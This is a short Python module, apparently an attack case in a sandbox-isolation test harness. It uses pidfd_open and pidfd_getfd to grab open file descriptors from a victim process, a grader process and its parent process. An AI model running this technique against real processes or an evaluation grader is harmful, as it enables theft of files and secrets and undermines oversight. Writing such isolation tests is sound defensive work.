"""Takes open files out of other processes with pidfd_open and pidfd_getfd."""

import ctypes
import os
import subprocess

from world import GENTLE, GRADER_PID, VICTIM_PID

LIBC = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def attack():
    if not GENTLE:
        return [taken for pid in (VICTIM_PID, GRADER_PID, os.getppid()) if (taken := taken_from(pid))]
    with subprocess.Popen(["sleep", "9"], stdin=subprocess.PIPE) as child:
        try:
            return taken_from(child.pid)
        finally:
            child.kill()


def taken_from(pid):
    pidfd = LIBC.syscall(PIDFD_OPEN, pid, 0)
    found = [fd for n in range(12) if (fd := LIBC.syscall(PIDFD_GETFD, pidfd, n, 0)) >= 0]
    names = [f"{pid}/{os.fstat(fd).st_ino}" for fd in found]
    for fd in (*found, *([pidfd] if pidfd >= 0 else [])):
        os.close(fd)
    return names
